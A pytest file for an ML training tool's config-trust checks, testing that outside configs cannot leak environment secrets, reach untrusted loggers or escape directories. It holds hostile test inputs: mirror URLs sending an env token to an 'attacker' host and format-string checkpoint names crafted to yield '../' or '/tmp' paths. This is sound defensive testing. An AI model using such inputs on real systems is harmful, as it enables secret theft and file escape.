"""What a config from elsewhere may not name: addresses, connections, ways out of its directory."""

import json
from pathlib import Path

import pytest
from conftest import Command
from lightning.pytorch.loggers import Logger
from omegaconf import OmegaConf

from nnlab.config import build, check_config
from nnlab.config.trust import check_downloads


def node(**entries):
    return OmegaConf.create(entries)


IMAGES = {"mirrors": ["https://mirror/"], "train_images": "images"}


@pytest.mark.parametrize(
    "entries",
    [
        {"data": {**IMAGES, "mirrors": ["https://attacker/${oc.env:TOKEN}/"]}},
        {"data": {**IMAGES, "mirrors": "${theirs}"}, "theirs": ["https://attacker/"]},
        {"data": {**IMAGES, "train_images": "${oc.env:TOKEN}"}},
        {"data": "${theirs}", "theirs": {**IMAGES, "train_images": "${oc.env:TOKEN}"}},
    ],
)
def test_no_variable_is_sent_over_the_network(monkeypatch, entries: dict) -> None:
    check_config(node(data=IMAGES, seed="${oc.decode:'1'}"))
    monkeypatch.setenv("TOKEN", "s3cr3t")
    with pytest.raises(ValueError, match=r"data\.\w+ must be written out") as caught:
        check_config(OmegaConf.create(entries))
    assert "s3cr3t" not in str(caught.value)


@pytest.mark.parametrize("name", ["WandbLogger", "mlflow.MLFlowLogger", "comet.CometLogger"])
def test_a_logger_that_sends_must_be_trusted_by_name(monkeypatch, name: str) -> None:
    theirs = node(_target_=f"lightning.pytorch.loggers.{name}", no_such=1)
    with pytest.raises(
        ValueError, match=r"must be a logger that sends nothing .* if you"
    ) as caught:
        build(theirs, Logger, save_dir=".")
    monkeypatch.setenv("NNLAB_TRUSTED_PACKAGES", str(caught.value).rpartition("=")[2])
    with pytest.raises(ValueError, match="Logger: "):  # its package is not there
        build(theirs, Logger, save_dir=".")


def test_several_packages_may_be_trusted(monkeypatch) -> None:
    monkeypatch.setenv("NNLAB_TRUSTED_PACKAGES", "mine, yours")
    for package in ("mine", "yours"):
        check_config(node(callbacks={"a": {"_target_": f"{package}.Own"}}))
    with pytest.raises(ValueError, match="must be of a trusted package"):
        check_config(node(callbacks={"a": {"_target_": "others.Own"}}))


def test_loggers_that_stay_on_this_machine_are_built(tmp_path: Path) -> None:
    local = node(_target_="lightning.pytorch.loggers.CSVLogger")
    assert build(local, Logger, save_dir=tmp_path).save_dir == str(tmp_path)


@pytest.mark.parametrize(
    ("filename", "allowed"),
    [
        ("best", True),
        ("{epoch}-{val/loss:.3f}-{step:06d}", True),
        ("{epoch.__module__!s:.>2.0}/{step}", False),  # ../7
        ("{epoch.__module__!s:/>1.0}tmp", False),  # /tmp
        ("{epoch[0]}", False),
        ("{epoch:{step}}", False),
        ("{:.>2.0}", False),
    ],
)
def test_the_name_of_a_checkpoint_is_no_way_out(filename: str, allowed: bool) -> None:
    cfg = node(callbacks={"mine": {"filename": filename}})
    if allowed:
        check_config(cfg)
    else:
        with pytest.raises(
            ValueError, match=r"callbacks\.mine\.filename must name metrics plainly"
        ):
            check_config(cfg)


def test_what_is_downloaded_goes_to_the_cache_or_where_the_command_line_says(
    tmp_path: Path, monkeypatch
) -> None:
    monkeypatch.setenv("NNLAB_DATA", str(tmp_path / "cache"))
    for inside in ("cache/mnist", "cache"):
        check_downloads(node(data={**IMAGES, "root": f"{tmp_path}/{inside}"}), ())
    for outside in ("cache/../mine", "cache2"):
        cfg = node(data={**IMAGES, "root": f"{tmp_path}/{outside}"})
        with pytest.raises(ValueError, match=r"data\.root must be in .*/cache or be given on"):
            check_downloads(cfg, ["data"])
        check_downloads(cfg, ["data.root"])
    (tmp_path / "cache2").mkdir()
    (tmp_path / "cache2" / "images.gz").touch()
    check_downloads(cfg, ())  # there is nothing to download
    check_downloads(node(data={"path": "t.csv"}), ())


def test_a_config_or_sweep_from_elsewhere_has_nothing_put_anywhere(
    quick_command: Command, tmp_path: Path
) -> None:
    theirs = tmp_path / "theirs" / "experiment" / "mine.yaml"
    theirs.parent.mkdir(parents=True)
    theirs.write_text(
        "# @package _global_\ndefaults: [override /data: mnist]\ndata: {root: elsewhere}\n"
    )
    said = "data.root must be in "
    words = ("train.py", "--config-dir", str(tmp_path / "theirs"), "experiment=mine")
    process = quick_command(*words, succeed=False)
    (line,) = process.stderr.splitlines()
    assert said in line
    assert line.endswith("add data.root=elsewhere to the command")

    sweep = tmp_path / "sweep"
    sweep.mkdir()
    task = ["data=mnist", "data.root=elsewhere", "seed=0,1"]
    (sweep / "multirun.yaml").write_text(json.dumps({"hydra": {"overrides": {"task": task}}}))
    process = quick_command("train.py", f"resume={sweep}", succeed=False)
    assert said in process.stderr
    assert not (tmp_path / "elsewhere").exists()
    # His own word for it; there is no network.
    process = quick_command(*words, "data.root=elsewhere", succeed=False)
    assert "is not in elsewhere and no mirror gave it" in process.stderr
